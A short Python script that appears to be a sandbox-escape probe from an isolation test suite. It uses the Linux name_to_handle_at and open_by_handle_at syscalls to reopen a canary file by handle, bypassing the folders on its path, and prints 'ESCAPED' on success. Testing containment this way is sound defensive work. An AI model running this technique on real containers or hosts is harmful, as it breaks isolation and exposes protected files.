# class: leak
# Opens a file outside by its handle, past all folders on the way.
import ctypes,os,platform,struct
l=ctypes.CDLL(None,use_errno=True); h=ctypes.create_string_buffer(struct.pack("=Ii",120,0),128); m=ctypes.c_int()
n,o=((303,304) if platform.machine()=="x86_64" else (264,265))
r=l.syscall(n,-100,CANARY["file"].encode(),h,ctypes.byref(m),0)
if r<0: print("no handle, errno",ctypes.get_errno())
for p in ("/tmp","/","."):
    try: d=os.open(p,os.O_RDONLY)
    except OSError: continue
    f=l.syscall(o,d,h,0)
    if f>=0: print("ESCAPED" if b"canary" in os.read(f,99) else "opened")
